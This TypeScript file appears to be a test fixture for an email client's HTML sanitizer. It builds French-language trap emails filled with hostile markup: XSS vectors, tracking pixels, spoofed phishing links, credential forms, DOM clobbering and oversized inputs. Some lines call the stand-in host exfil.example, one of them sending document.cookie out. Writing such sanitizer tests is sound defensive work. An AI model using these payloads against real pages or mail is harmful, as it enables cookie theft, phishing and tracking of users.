import type { Guises, Trap } from "./trap.ts"

/** Markup that a page must not execute, by the mail's subject. */
const PAGES: Record<string, Guises> = {
  "Invitation interactive": [
    "<script>document.title='pris'</script>",
    "<SCRIPT SRC=https://exfil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*<![CDATA[*/parent.postMessage('x','*')/*]]>*/</script>",
  ],
  "Photos du lancement": [
    '<img src=x onerror="alert(document.domain)">',
    "<img src='x' OnErRoR=fetch('https://exfil.example/?c='+document.cookie)>",
    '<body onload=alert(1)><p onmouseover="alert(2)">Passez ici</p>',
    "<video autoplay onplay=alert(1)><source src=x onerror=alert(2)></video>",
  ],
  "Votre espace partenaire": [
    '<a href="javascript:alert(1)">Ouvrir mon espace</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">Ouvrir</a>',
    '<a href="&#106;avascript:alert(1)">Ouvrir</a>',
    '<a href="\tjava\nscript:alert(1)">Ouvrir</a>',
  ],
  "Catalogue embarqué": [
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Catalogue</a>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<a href="vbscript:msgbox(1)">Catalogue</a>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
  ],
  "Votre avis de paiement": [
    '<a href="https://exfil.example/connexion">https://www.trame.example/connexion</a>',
    '<a href="https://www.trame.example@exfil.example/">Trame</a>',
    '<a href="https://www.trame.example.exfil.example/">www.trame.example</a>',
    '<a href="https://trаme.example/">trame.example</a>',
  ],
  "La lettre du mois": [
    '<img src="https://suivi.{host}/ouvert.gif?qui=lou" width="1" height="1">',
    '<img srcset="https://suivi.{host}/1x.png 1x, https://suivi.{host}/2x.png 2x">',
    '<picture><source srcset="https://suivi.{host}/a.webp"><img src="//suivi.{host}/b.png"></picture>',
    '<video poster="https://suivi.{host}/p.jpg"></video><audio src="https://suivi.{host}/a.mp3" autoplay></audio>',
  ],
  "Confirmez vos coordonnées": [
    '<form action="https://{host}/vol" method="post"><input name="iban"><button>Valider</button></form>',
    '<form id=f action="https://{host}/vol"></form><button form=f formaction="https://{host}/autre">Confirmer</button>',
    '<input type="password" autofocus onfocus=alert(1) placeholder="Mot de passe Trame">',
    '<isindex action="javascript:alert(1)" type=image>',
  ],
  "Nouvelle identité visuelle": [
    '<div style="background:url(https://suivi.{host}/fond.png)">Bonjour</div>',
    '<style>@import url("https://suivi.{host}/a.css"); body{background:url(//suivi.{host}/b.png)}</style>Bonjour',
    '<div style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(//exfil.example/x.xml#a)">Bonjour</div>',
    `<div style="background:\\75 rl(https://suivi.{host}/c.png);list-style:u/**/rl(//x)">Bonjour</div>`,
  ],
  "Redirection vers le brief": [
    '<meta http-equiv="refresh" content="0;url=https://{host}/">',
    '<base href="https://{host}/"><a href="/brief">Le brief</a>',
    '<link rel="stylesheet" href="https://{host}/x.css"><link rel="prefetch" href="https://{host}/p">',
    '<meta http-equiv="Set-Cookie" content="a=b"><meta name="referrer" content="unsafe-url">',
  ],
  "Le nouveau logo": [
    '<svg onload="alert(1)"><circle r="9"/></svg>',
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text y="20">Voir</text></a></svg>',
    '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  ],
  "Visite virtuelle": [
    '<iframe src="https://{host}/" width="600" height="400"></iframe>',
    '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
    '<embed src="https://{host}/x.swf"><object data="https://{host}/y.pdf"></object>',
    '<frameset><frame src="https://{host}/"></frameset>',
  ],
  "Calcul de votre rémunération": [
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">Total</p></noscript>',
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
  ],
  "Mentions et identifiants": [
    '<div id="root" class="ant-modal" style="position:fixed;inset:0;z-index:9999;background:#fff">Votre session a expiré</div>',
    '<a name="body"></a><form name="attributes"><input name="nodeName"></form>',
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh"><a href="https://exfil.example/">&nbsp;</a></div>',
    '<img name="cookie" src="cid:x"><a id="location" href="https://exfil.example/">Lieu</a>',
  ],
  "Document mal fermé": [
    "<table><tr><td><b><i><u>Bonjour<div><p><span",
    `${"<div>".repeat(3000)}Bonjour`,
    "<!-- <p>Bonjour --!><img src=x onerror=alert(1)> -->",
    "<p>Bonjour</p></body></html><script>alert(1)</script>",
  ],
  "Étiquettes étranges": [
    "<x-foo onclick=alert(1)>Bonjour</x-foo><custom-element is=script>",
    "<p\0 onclick=alert(1)>Bon\0jour</p>",
    "<![if gte mso 9]><xml><o:p onclick=alert(1)></o:p></xml><![endif]>Bonjour",
    "<marquee onstart=alert(1)>Bonjour</marquee><details open ontoggle=alert(1)>x</details>",
  ],
  "Trop pour une page": [
    `<p>${"mot ".repeat(60_000)}</p>`,
    `<p>${"A".repeat(200_000)}</p>`,
    `<table>${"<tr><td>x</td></tr>".repeat(8000)}</table>`,
    `<p style="${"color:red;".repeat(9000)}">Bonjour</p>`,
  ],
}

const OTHERWISE = "Bonjour Lou,\n\nVotre messagerie n'affiche pas cette page."

const page = (markup: string) =>
  `<html><body><p>Bonjour Lou,</p>${markup}<p>L'équipe {brand}</p></body></html>`

export const PAGE_TRAPS: Trap[] = Object.entries(PAGES).map(([subject, [first, second, third, fourth]]) => ({
  subject: `${subject} – {brand}`,
  text: [OTHERWISE, "", OTHERWISE, ""],
  html: [page(first), page(second), page(third), page(fourth)],
}))
